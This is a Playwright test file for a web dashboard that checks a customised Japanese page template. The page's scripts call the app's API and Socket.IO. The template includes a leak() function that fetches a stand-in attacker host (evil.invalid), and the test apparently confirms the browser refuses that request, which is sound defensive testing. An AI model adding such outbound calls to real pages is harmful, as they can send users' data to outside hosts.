"""A customised page of the legacy in a real browser: its scripts call our API and Socket.IO."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.live_clients import edit_notes
from tests.servers import Server, running_server

# Written as such pages are: inline scripts and handlers, libraries from a CDN, Jinja's url_for.
PAGE = """<!doctype html><html lang="ja"><head><meta charset="utf-8"><title>{{ title }}</title>
<link rel="stylesheet" href="{{ url_for('static', filename='css/会社.css') }}">
<style>#count { font-weight: bold }</style>
<script src="https://cdn.socket.io/4.7.2/socket.io.min.js"
        integrity="sha384-wrong" crossorigin="anonymous"></script></head>
<body><h1>工場の掲示板</h1><p id="count">-</p><p id="state">切断</p><p id="news">-</p>
<button onclick="create()">作成</button><p id="made">-</p>
<script src="/static/js/own.js"></script>
<script>
const socket = io();
socket.on('connect', () => { document.getElementById('state').textContent = '接続済み'; });
socket.on('task_updated', d => {
  document.getElementById('news').textContent = d.task_id || d.id || d.task.id;
});
async function load() {
  const answer = await (await fetch('/api/overview')).json();
  document.getElementById('count').textContent = answer.system_status.total_tasks;
}
async function create() {
  const answer = await fetch('/api/task/create', {method: 'POST',
    headers: {'Content-Type': 'application/json'}, body: JSON.stringify({title: '新しい作業'})});
  document.getElementById('made').textContent = (await answer.json()).success;
}
async function leak() {
  try { await fetch('https://evil.invalid/x'); return 'sent'; } catch { return 'refused'; }
}
load();
</script></body></html>"""
FILES = {
    "templates/custom/orch_dashboard.html": PAGE,
    "static/custom/css/会社.css": "h1 { color: rgb(200, 0, 0) }",
    "static/custom/js/own.js": "document.body.dataset.own = 'ran';",
}


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    folder = tmp_path_factory.mktemp("custom")
    env = {"ORCH_CUSTOM_PAGES": "true", "ORCH_CUSTOM_URLS": "/=orch_dashboard.html"}
    with running_server(folder, env=env) as running:
        for name, text in FILES.items():
            path = running.orch_root.parent / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text, encoding="utf-8")
        yield running


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context()
    yield context.new_page()
    context.close()


@pytest.mark.parametrize("path", ["/", "/custom/orch_dashboard.html"])
def test_the_owners_page_works(server: Server, page: Page, path: str) -> None:
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(f"{server.url}{path}")
    expect(page.locator("#state")).to_have_text("接続済み")
    expect(page.locator("#count")).not_to_have_text("-")
    expect(page.locator("h1")).to_have_css("color", "rgb(200, 0, 0)")
    assert page.evaluate("document.body.dataset.own") == "ran"
    edit_notes(server.orch_root, "005", f"外から {path}")
    expect(page.locator("#news")).to_have_text("005")
    page.get_by_role("button", name="作成").click()
    expect(page.locator("#made")).to_have_text("true")
    assert (page.evaluate("leak()"), errors) == ("refused", [])


def test_our_own_pages_stay_where_they_are(server: Server, page: Page) -> None:
    page.goto(f"{server.url}/tasks")
    expect(page.locator("#main-content")).to_be_visible()
    assert page.locator("#count").count() == 0
